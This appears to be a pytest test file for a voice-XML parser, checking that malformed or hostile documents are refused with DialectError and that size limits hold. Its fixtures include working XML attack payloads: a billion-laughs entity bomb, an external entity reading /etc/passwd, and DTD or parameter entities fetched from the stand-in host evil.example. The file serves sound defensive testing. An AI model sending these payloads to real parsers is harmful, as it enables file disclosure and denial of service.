"""Hostile and non-XML documents are refused with DialectError, quickly."""

from __future__ import annotations

import pytest

from callbridge.dialects import MAX_DOCUMENT_BYTES, DialectError, parse_voice_xml

BASE = "https://app.example/app.xml"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<Response><Say>&lol9;</Say></Response>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Response><Say>&secret;</Say></Response>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Response SYSTEM "http://evil.example/voice.dtd">
<Response><Say>hi</Say></Response>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<Response/>"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused(document: bytes) -> None:
    with pytest.raises(DialectError, match="forbidden XML construct"):
        parse_voice_xml(document, BASE)


def test_a_ten_megabyte_body_is_refused_before_parsing() -> None:
    document = b"<Response>" + b"<Pause/>" * (10 * 1024 * 1024 // 8) + b"</Response>"
    with pytest.raises(DialectError, match="exceeds"):
        parse_voice_xml(document, BASE)


def test_a_document_just_under_the_limit_is_parsed() -> None:
    head, tail = b"<Response><Hangup/>", b"</Response>"
    padding = b" " * (MAX_DOCUMENT_BYTES - len(head) - len(tail))
    assert len(parse_voice_xml(head + padding + tail, BASE).verbs) == 1


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"hello",
        b'{"Say": "hi"}',
        b"<html><body>502 Bad Gateway",
        b"<Response><Say>hi</Response>",
        b"\xff\xfe\x00<\x00R",
        b"<Response/><Response/>",
    ],
)
def test_non_xml_is_refused(document: bytes) -> None:
    with pytest.raises(DialectError):
        parse_voice_xml(document, BASE)
